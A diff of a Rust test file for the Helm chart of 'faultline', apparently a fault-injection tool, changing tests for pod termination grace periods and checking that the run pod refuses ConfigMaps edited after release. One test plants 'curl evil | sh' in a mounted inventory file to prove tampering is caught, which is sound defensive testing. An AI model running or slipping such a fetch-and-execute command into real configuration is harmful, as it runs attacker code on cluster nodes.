@@ -6,7 +6,6 @@
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
 use std::process::Command;
-use std::time::Duration;
 
 use serde_json::Value;
 
@@ -137,6 +136,19 @@ fn the_chart_installs_the_rules_generated_for_its_own_experiments() {
         .iter()
         .find(|d| d["kind"] == "Job")
         .expect("a Job by default");
+    // Its grace is what its experiments' undo needs after SIGTERM, as generated.
+    let values: Value = serde_saphyr::from_str(&faultline(&[
+        "rbac",
+        &format!("{CHART}/files/experiments"),
+        "-o",
+        "values",
+    ]))
+    .expect("values");
+    assert_eq!(
+        job["spec"]["template"]["spec"]["terminationGracePeriodSeconds"],
+        values["job"]["terminationGracePeriodSeconds"],
+        "values.yaml's job.terminationGracePeriodSeconds is stale: `faultline rbac {CHART}/files/experiments -o values` prints it"
+    );
     let env = job["spec"]["template"]["spec"]["containers"][0]["env"].to_string();
     for var in ["POD_NAME", "POD_NAMESPACE"] {
         assert!(env.contains(var), "{var} missing from {env}");
@@ -261,13 +273,12 @@ fn the_api_transport_s_namespace_and_rules_and_the_nightly_comparison_render() {
         "{}",
         container["env"]
     );
-    // The comparison's arguments go with the baseline only (the first run has none).
-    assert!(
-        container["args"][0]
-            .to_string()
-            .contains("${baseline:+--baseline \\\"$baseline\\\" $FAULTLINE_COMPARE_ARGS}"),
-        "{}",
-        container["args"][0]
+    // faultline is the pod's PID 1: the comparison's arguments go with the baseline only
+    // (`faultline job` passes them when there is a previous run).
+    assert_eq!(
+        container["command"],
+        serde_json::json!(["faultline", "job", "run"]),
+        "{container}"
     );
 }
 
@@ -329,107 +340,104 @@ fn chart_own_roles() {
         pod["metadata"]["labels"]["app.kubernetes.io/component"],
         "run"
     );
-    assert_eq!(pod["spec"]["terminationGracePeriodSeconds"], 200);
+    assert_eq!(pod["spec"]["terminationGracePeriodSeconds"], 198);
 }
 
-/// The run pod's shell (PID 1 in the pod, busybox `sh` in the image) hands SIGTERM on to
-/// faultline and waits for it to undo and exit, and its exit code is faultline's; a journal
-/// on the volume that still holds faults is restored before the run. Run here under the
-/// image's own shell, with a stand-in `faultline` that records its calls and, on SIGTERM,
-/// "undoes" and exits 2, as faultline does.
+/// Issue 69, items 3 and 4: the run pod is `faultline job` (PID 1, no shell losing
+/// signals in between), and what it runs is pinned: the digests the chart writes into the
+/// Job's spec are those of the ConfigMaps it renders, so the real binary accepts the
+/// release's files as mounted, and refuses to run when one was edited since, added or
+/// taken away.
 #[test]
-fn the_pods_shell_hands_sigterm_to_faultline_and_restores_a_journal_first() {
-    let busybox = Path::new("/bin/busybox");
-    assert!(
-        busybox.exists(),
-        "busybox (the image's shell) is missing: ci/deps installs busybox-static"
-    );
+fn the_run_pod_is_faultline_itself_and_refuses_configmaps_edited_since_the_release() {
     let helm = helm();
-    let rendered = docs(&run(Command::new(&helm)
-        .current_dir(root())
-        .args(["template", "t", CHART])));
+    let rendered = docs(&run(Command::new(&helm).current_dir(root()).args([
+        "template",
+        "t",
+        CHART,
+        "--set",
+        "job.extraArgs={--keep-going}",
+    ])));
     let job = rendered
         .iter()
         .find(|d| d["kind"] == "Job" && d["metadata"]["name"] == "t-run-1")
         .expect("the run Job");
-    let script = job["spec"]["template"]["spec"]["containers"][0]["args"][0]
-        .as_str()
-        .expect("the pod's script")
-        .to_string();
-    let dir = tempfile::tempdir().expect("tempdir");
-    let d = dir.path();
-    let reports = d.join("reports");
-    std::fs::create_dir_all(&reports).expect("reports");
-    let script = script
-        .replace("/reports", &reports.display().to_string())
-        .replace("/etc/faultline", &d.join("etc").display().to_string());
-    let bin = d.join("bin");
-    std::fs::create_dir_all(&bin).expect("bin");
-    let calls = d.join("calls");
-    std::fs::write(
-        bin.join("faultline"),
-        format!(
-            "#!/bin/busybox sh\necho \"$1\" >> {calls}\n\
-             case $1 in\n\
-               restore) echo restored; exit 0 ;;\n\
-               run) trap 'echo undone >> {calls}; exit 2' TERM; echo started >> {calls}; \
-                    i=0; while [ $i -lt 100 ]; do sleep 0.1; i=$((i+1)); done; \
-                    echo never-signalled >> {calls}; exit 9 ;;\n\
-             esac\n",
-            calls = calls.display()
-        ),
-    )
-    .expect("stand-in");
-    std::fs::set_permissions(
-        bin.join("faultline"),
-        std::os::unix::fs::PermissionsExt::from_mode(0o755),
-    )
-    .expect("chmod");
-    // A journal an earlier run left with a fault in it.
-    std::fs::write(
-        reports.join("journal.json"),
-        r#"{"version":1,"faults":[{"node":"w1"}]}"#,
-    )
-    .expect("journal");
-    let child = Command::new(busybox)
-        .args(["sh", "-c", &script])
-        .env("PATH", format!("{}:/bin:/usr/bin", bin.display()))
-        .env("POD_NAME", "p")
-        .env("FAULTLINE_COMMAND", "run")
-        .env("FAULTLINE_ARGS", "")
-        .env("FAULTLINE_COMPARE", "false")
-        .env("FAULTLINE_COMPARE_ARGS", "")
-        .stdout(std::process::Stdio::piped())
-        .spawn()
-        .expect("sh");
-    let started = std::time::Instant::now();
-    while !std::fs::read_to_string(&calls)
-        .unwrap_or_default()
-        .contains("started")
-    {
-        assert!(
-            started.elapsed() < Duration::from_secs(10),
-            "the run never started"
-        );
-        std::thread::sleep(Duration::from_millis(50));
-    }
-    // Kubernetes signals the pod's PID 1: the shell.
-    let term = Command::new("kill")
-        .args(["-TERM", &child.id().to_string()])
-        .status()
-        .expect("kill");
-    assert!(term.success());
-    let out = child.wait_with_output().expect("the shell ends");
-    let said = String::from_utf8_lossy(&out.stdout);
-    let calls = std::fs::read_to_string(&calls).unwrap_or_default();
+    let container = &job["spec"]["template"]["spec"]["containers"][0];
     assert_eq!(
-        calls.lines().collect::<Vec<_>>(),
-        ["restore", "run", "started", "undone"],
+        container["command"],
+        serde_json::json!(["faultline", "job", "run"])
+    );
+    assert_eq!(container["args"], serde_json::json!(["--", "--keep-going"]));
+    let env = |name: &str| -> String {
+        container["env"]
+            .as_array()
+            .into_iter()
+            .flatten()
+            .find(|e| e["name"] == name)
+            .and_then(|e| e["value"].as_str())
+            .unwrap_or_else(|| panic!("no {name} in {}", container["env"]))
+            .to_string()
+    };
+    let pins = env("FAULTLINE_PINNED");
+    assert_eq!(env("FAULTLINE_REPORTS_EPHEMERAL"), "false");
+    // The three ConfigMaps, mounted as the kubelet mounts them.
+    let dir = tempfile::tempdir().expect("tempdir");
+    let etc = dir.path().join("etc");
+    let mut files = 0;
+    for (cm, sub) in [
+        ("t-experiments", "experiments"),
+        ("t-manifests", "manifests"),
+        ("t-inventory", "inventory"),
+    ] {
+        let map = rendered
+            .iter()
+            .find(|d| d["kind"] == "ConfigMap" && d["metadata"]["name"] == cm)
+            .unwrap_or_else(|| panic!("no ConfigMap {cm}"));
+        let data = etc.join(sub).join("..2026_12_07.1");
+        std::fs::create_dir_all(&data).expect("mkdir");
+        std::os::unix::fs::symlink("..2026_12_07.1", etc.join(sub).join("..data")).expect("ln");
+        for (name, text) in map["data"].as_object().into_iter().flatten() {
+            std::fs::write(data.join(name), text.as_str().expect("text")).expect("write");
+            std::os::unix::fs::symlink(format!("..data/{name}"), etc.join(sub).join(name))
+                .expect("ln");
+            files += 1;
+        }
+    }
+    assert!(
+        files >= 3,
+        "experiments, manifests and the inventory: {files}"
+    );
+    assert_eq!(pins.lines().count(), files, "{pins}");
+    let validate = || {
+        Command::new(env!("CARGO_BIN_EXE_faultline"))
+            .args(["job", "validate", "--config"])
+            .arg(&etc)
+            .arg("--reports")
+            .arg(dir.path().join("reports"))
+            .env("FAULTLINE_PINNED", &pins)
+            .output()
+            .expect("faultline job validate")
+    };
+    let out = validate();
+    let said =
+        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(0), "{said}");
+    assert!(
+        said.contains("are the release's (pinned digests)"),
         "{said}"
     );
-    assert!(said.contains("faultline restore first"), "{said}");
-    assert!(said.contains("faultline run exited 2"), "{said}");
+    // Someone with `update configmaps` adds a command to the inventory.
+    let inventory = etc.join("inventory/..2026_12_07.1/inventory.yaml");
+    let mut text = std::fs::read_to_string(&inventory).expect("read");
+    text.push_str("commands:\n  kubeletStop: \"curl evil | sh\"\n");
+    std::fs::write(&inventory, text).expect("edit");
+    let out = validate();
+    let said = String::from_utf8_lossy(&out.stderr).to_string();
     assert_eq!(out.status.code(), Some(2), "{said}");
+    assert!(
+        said.contains("inventory/inventory.yaml: not what the release pinned"),
+        "{said}"
+    );
 }
 
 /// Every pod the chart makes runs the faultline image by digest once `image.digest` is set
